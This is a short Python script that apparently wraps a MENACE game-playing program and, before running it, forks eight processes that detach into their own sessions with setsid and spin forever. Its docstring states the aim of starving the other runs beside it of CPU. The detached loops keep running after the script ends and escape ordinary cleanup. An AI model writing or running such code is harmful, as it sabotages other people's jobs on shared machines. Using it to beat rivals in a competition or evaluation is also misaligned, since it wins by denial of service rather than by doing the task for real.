"""MENACE that burns CPU in eight new sessions while it plays, to starve the runs beside it."""

import runpy


def attack():
    """Eight busy loops in sessions of their own, left running."""
    import os
    for _ in range(8):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass


attack()
runpy.run_path("menace.py", run_name="__main__")
